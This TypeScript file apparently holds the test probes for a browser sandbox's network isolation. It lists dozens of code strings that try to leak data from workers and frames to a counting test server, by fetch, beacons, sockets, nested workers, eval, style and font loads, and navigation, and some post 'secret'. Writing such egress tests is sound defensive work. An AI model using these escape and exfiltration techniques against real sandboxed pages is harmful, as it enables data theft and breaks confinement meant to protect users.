/**
 * Ways out. Each is an expression in which `http`, `ws` and `udp` stand for the addresses of a server that counts every
 * connection and every packet. `leaves` says that it must be seen there when nothing forbids it, so that a probe that
 * would never have worked proves nothing. A probe that answers `'in'` got at something without the network.
 */
export interface Probe {
  readonly name: string;
  readonly code: string;
  readonly leaves: boolean;
}

const leaves = (name: string, code: string): Probe => ({ name, code, leaves: true });
/** Not to be seen from a free worker, for a reason of its own: still tried. */
const tries = (name: string, code: string): Probe => ({ name, code, leaves: false });

const nested = (script: string) =>
  `new Promise((resolve) => { const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(script)}.replaceAll('HTTP', http).replaceAll('WS', ws)])));
   w.onerror = resolve; setTimeout(resolve, 700) })`;

/** For the inside of a worker. */
export const workerProbes: readonly Probe[] = [
  leaves('fetch', `fetch(http + '/fetch')`),
  leaves('fetch without cors', `fetch(http + '/fetch-no-cors', { mode: 'no-cors' })`),
  leaves('fetch, posting', `fetch(http + '/post', { method: 'POST', mode: 'no-cors', body: 'secret' })`),
  leaves('fetch, kept alive', `fetch(http + '/keepalive', { keepalive: true, mode: 'no-cors' })`),
  leaves('fetch of a Request', `fetch(new Request(http + '/request', { mode: 'no-cors' }))`),
  leaves(
    'XMLHttpRequest',
    `new Promise((resolve) => { const x = new XMLHttpRequest(); x.onloadend = resolve; x.open('GET', http + '/xhr'); x.send() })`,
  ),
  leaves(
    'XMLHttpRequest, synchronous',
    `(() => { const x = new XMLHttpRequest(); x.open('POST', http + '/xhr-sync', false); x.send('secret') })()`,
  ),
  leaves(
    'WebSocket',
    `new Promise((resolve) => { const s = new WebSocket(ws + '/socket'); s.onerror = s.onclose = resolve })`,
  ),
  leaves(
    'EventSource',
    `new Promise((resolve) => { const s = new EventSource(http + '/events'); s.onerror = () => { s.close(); resolve() } })`,
  ),
  leaves('importScripts', `importScripts(http + '/script.js')`),
  leaves('dynamic import', `import(http + '/module.js')`),
  leaves('font', `new FontFace('x', 'url(' + http + '/font.woff2)').load()`),
  leaves('nested worker that fetches', nested(`fetch('HTTP/nested')`)),
  leaves('nested worker with importScripts', nested(`importScripts('HTTP/nested.js')`)),
  leaves('nested worker with a socket', nested(`new WebSocket('WS/nested')`)),
  leaves(
    'nested worker in a nested worker',
    nested(`new Worker(URL.createObjectURL(new Blob(["fetch('HTTP/deep')"])))`),
  ),
  leaves(
    'nested module worker',
    `new Promise((resolve) => { const w = new Worker(URL.createObjectURL(new Blob(["import '" + http + "/m.js'"],
    { type: 'text/javascript' })), { type: 'module' }); w.onerror = resolve; setTimeout(resolve, 700) })`,
  ),
  leaves(
    'blob module that imports',
    `import(URL.createObjectURL(new Blob(["import '" + http + "/blob-module.js'"], { type: 'text/javascript' })))`,
  ),
  leaves(
    'blob script that imports',
    `importScripts(URL.createObjectURL(new Blob(["importScripts('" + http + "/chain.js')"])))`,
  ),
  tries(
    'worker from a data: URL',
    `new Promise((resolve) => { const w = new Worker('data:text/javascript,' + encodeURIComponent("fetch('" + http + "/data')"));
    w.onerror = resolve; setTimeout(resolve, 700) })`,
  ),
  tries(
    'worker from the server',
    `new Promise((resolve) => { const w = new Worker(http + '/worker.js'); w.onerror = resolve; setTimeout(resolve, 500) })`,
  ),
  tries(
    'dynamic import of data:',
    `import('data:text/javascript,' + encodeURIComponent("fetch('" + http + "/data-module')"))`,
  ),
  tries('WebTransport', `new WebTransport(http.replace('http', 'https') + '/transport').ready`),
  tries('WebSocketStream', `new WebSocketStream(ws + '/stream').opened`),
  tries(
    'RTCPeerConnection',
    `(async () => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + udp }] }); c.createDataChannel('x');
    await c.setLocalDescription(); await new Promise((resolve) => setTimeout(resolve, 500)) })()`,
  ),
  tries('SharedWorker', `new SharedWorker(http + '/shared.js')`),
  tries('sendBeacon', `navigator.sendBeacon(http + '/beacon', 'secret')`),
  tries('service worker', `navigator.serviceWorker.register(http + '/sw.js')`),
  tries('Image', `new Promise((resolve) => { const i = new Image(); i.onerror = resolve; i.src = http + '/image' })`),
  tries('document', `document.createElement('img').src = http + '/img'`),
  tries('window.open', `open(http + '/open')`),
  tries('location', `location.href = http + '/location'`),
  tries('location.assign', `location.assign(http + '/assign')`),
  tries('top', `top.location = http + '/top'`),
  tries('parent', `parent.postMessage('hello', '*')`),
  tries('opener', `opener.postMessage('hello', '*')`),
  tries(
    'message to the frame',
    `(() => { postMessage({ source: 'escaped' }); postMessage('escaped'); return 'sent' })()`,
  ),
  tries('notification', `new Notification('x', { icon: http + '/icon' })`),
  tries('background fetch', `registration.backgroundFetch.fetch('x', [http + '/background'])`),
  tries('compiled text', `Function('return fetch("' + http + '/function")')()`),
  tries('eval', `(0, eval)('fetch("' + http + '/eval")')`),
  tries('timer with text', `setTimeout('fetch("' + http + '/timer")')`),
  tries('WebAssembly', `WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => 'in')`),
  tries(
    'indexedDB',
    `new Promise((resolve, reject) => { const r = indexedDB.open('eventarium'); r.onsuccess = () => resolve('in'); r.onerror = () => resolve('no') })`,
  ),
  tries('indexedDB.databases', `indexedDB.databases().then(() => 'in')`),
  tries('caches', `caches.open('x').then((cache) => cache.put('/x', new Response('x'))).then(() => 'in')`),
  tries('localStorage', `(localStorage.setItem('x', '1'), 'in')`),
  tries('cookieStore', `cookieStore.set('x', '1').then(() => 'in')`),
  tries('navigator.storage', `navigator.storage.getDirectory().then(() => 'in')`),
  tries('locks', `navigator.locks.request('x', () => 'in')`),
  tries(
    'BroadcastChannel',
    `(() => { const c = new BroadcastChannel('eventarium'); c.postMessage('escaped'); return 'sent' })()`,
  ),
  tries('file system', `webkitRequestFileSystemSync(TEMPORARY, 1024)`),
  tries('global through a plain call', `(function () { return this })().fetch(http + '/sloppy')`),
  tries('global through a constructor', `(() => {}).constructor('return this')().fetch(http + '/constructor')`),
  tries(
    'prototype of the global',
    `Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, http + '/prototype')`,
  ),
  tries('a signal in time', `AbortSignal.timeout(1).onabort`),
];

const element = (tag: string, attributes: Record<string, string>, then = '') =>
  `(() => { const e = document.createElement('${tag}'); ${Object.entries(attributes)
    .map(([name, value]) => `e.setAttribute('${name}', ${JSON.stringify(value)}.replaceAll('HTTP', http));`)
    .join(' ')} document.body.append(e); ${then} })()`;

/** For a document: the frame's own, which user code never reaches, as a third wall. */
export const documentProbes: readonly Probe[] = [
  leaves('fetch', `fetch(http + '/fetch', { mode: 'no-cors' })`),
  leaves('XMLHttpRequest', `(() => { const x = new XMLHttpRequest(); x.open('GET', http + '/xhr'); x.send() })()`),
  leaves('WebSocket', `void new WebSocket(ws + '/socket')`),
  leaves('EventSource', `void new EventSource(http + '/events')`),
  leaves('sendBeacon', `navigator.sendBeacon(http + '/beacon', 'secret')`),
  leaves('image', `void (new Image().src = http + '/image')`),
  leaves('audio', `void new Audio(http + '/audio').play().catch(() => {})`),
  leaves('video', element('video', { src: 'HTTP/video', preload: 'auto' })),
  leaves('script', element('script', { src: 'HTTP/script.js' })),
  leaves('module', element('script', { type: 'module', src: 'HTTP/module.js' })),
  leaves('dynamic import', `import(http + '/import.js')`),
  leaves('style sheet', element('link', { rel: 'stylesheet', href: 'HTTP/style.css' })),
  leaves('preload', element('link', { rel: 'preload', as: 'image', href: 'HTTP/preload' })),
  leaves('module preload', element('link', { rel: 'modulepreload', href: 'HTTP/preload.js' })),
  tries('prefetch', element('link', { rel: 'prefetch', href: 'HTTP/prefetch' })),
  tries('preconnect', element('link', { rel: 'preconnect', href: 'HTTP' })),
  tries('dns-prefetch', element('link', { rel: 'dns-prefetch', href: '//eventarium-leak.example' })),
  tries('icon', element('link', { rel: 'icon', href: 'HTTP/icon' })),
  tries('manifest', element('link', { rel: 'manifest', href: 'HTTP/manifest' })),
  leaves('style attribute', element('div', { style: 'background: url(HTTP/style-attribute)' })),
  leaves(
    'style from script',
    element(
      'div',
      {},
      `e.textContent = 'x'; e.style.background = 'url(' + http + '/style)'; e.getBoundingClientRect()`,
    ),
  ),
  leaves('import in a style', element('style', {}, `e.textContent = '@import url(' + http + '/import.css)'`)),
  leaves(
    'constructed style sheet',
    `(() => { const s = new CSSStyleSheet(); s.replaceSync('body { background: url(' + http + '/sheet) }');
    document.adoptedStyleSheets = [s]; document.body.getBoundingClientRect() })()`,
  ),
  leaves('font', `new FontFace('x', 'url(' + http + '/font.woff2)').load()`),
  leaves('object', element('object', { data: 'HTTP/object' })),
  leaves('embed', element('embed', { src: 'HTTP/embed' })),
  leaves('frame', element('iframe', { src: 'HTTP/frame' })),
  leaves('frame with srcdoc', element('iframe', { srcdoc: '<img src="HTTP/srcdoc">' })),
  leaves(
    'frame from a blob',
    `(() => { const e = document.createElement('iframe'); e.src = URL.createObjectURL(new Blob(['<img src="' + http + '/blob-frame">'],
    { type: 'text/html' })); document.body.append(e) })()`,
  ),
  leaves(
    'svg image',
    `(() => { const e = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); e.innerHTML = '<image href="' + http + '/svg"/>';
    document.body.append(e) })()`,
  ),
  leaves('form', element('form', { action: 'HTTP/form', method: 'post', target: '_blank' }, 'e.submit()')),
  leaves('window.open', `void open(http + '/open')`),
  leaves('worker that fetches', `void new Worker(URL.createObjectURL(new Blob(["fetch('" + http + "/worker')"])))`),
  tries('link with ping', element('a', { href: '#x', ping: 'HTTP/ping' }, 'e.click()')),
  tries('link to a new window', element('a', { href: 'HTTP/link', target: '_blank' }, 'e.click()')),
  tries('base', element('base', { href: 'HTTP/' })),
  tries('portal', element('portal', { src: 'HTTP/portal' })),
  tries('fenced frame', element('fencedframe', {}, `e.config = new FencedFrameConfig(http + '/fenced')`)),
  tries('WebTransport', `new WebTransport(http.replace('http', 'https') + '/transport').ready`),
  tries('SharedWorker', `new SharedWorker(http + '/shared.js')`),
  tries('service worker', `navigator.serviceWorker.register('/sw.js').then(() => 'in')`),
  tries(
    'speculation rules',
    element(
      'script',
      { type: 'speculationrules' },
      `e.textContent = JSON.stringify({ prefetch: [{ urls: [http + '/speculate'] }] })`,
    ),
  ),
  tries('top navigation', `void (top.location = http + '/top')`),
  tries('parent navigation', `void (parent.location = http + '/parent')`),
  tries('parent document', `(parent.document.body, 'in')`),
  tries('opener', `(opener.document, 'in')`),
  tries('localStorage', `(localStorage.setItem('x', '1'), 'in')`),
  tries('sessionStorage', `(sessionStorage.setItem('x', '1'), 'in')`),
  tries('cookie', `(document.cookie = 'x=1', document.cookie ? 'in' : 'no')`),
  tries(
    'indexedDB',
    `new Promise((resolve) => { const r = indexedDB.open('eventarium'); r.onsuccess = () => resolve('in'); r.onerror = () => resolve('no') })`,
  ),
  tries('caches', `caches.open('x').then(() => 'in')`),
  tries('storage access', `document.requestStorageAccess().then(() => 'in')`),
  tries('BroadcastChannel', `void new BroadcastChannel('eventarium').postMessage('escaped')`),
  tries('notification', `Notification.requestPermission().then((answer) => (answer === 'granted' ? 'in' : 'no'))`),
  tries('full screen', `document.body.requestFullscreen().then(() => 'in')`),
];

/** Ways of a frame to send itself elsewhere. The page's own `frame-src` has to hold them. */
export const navigationProbes: readonly Probe[] = [
  leaves('location', `void (location.href = http + '/location')`),
  leaves('location.replace', `location.replace(http + '/replace')`),
  leaves('link', element('a', { href: 'HTTP/self' }, 'e.click()')),
  leaves(
    'refresh',
    `(() => { const e = document.createElement('meta'); e.httpEquiv = 'refresh'; e.content = '0;url=' + http + '/refresh'; document.head.append(e) })()`,
  ),
  leaves('download', element('a', { href: 'HTTP/download', download: 'x' }, 'e.click()')),
  tries('form to itself', element('form', { action: 'HTTP/form-self' }, 'e.submit()')),
];
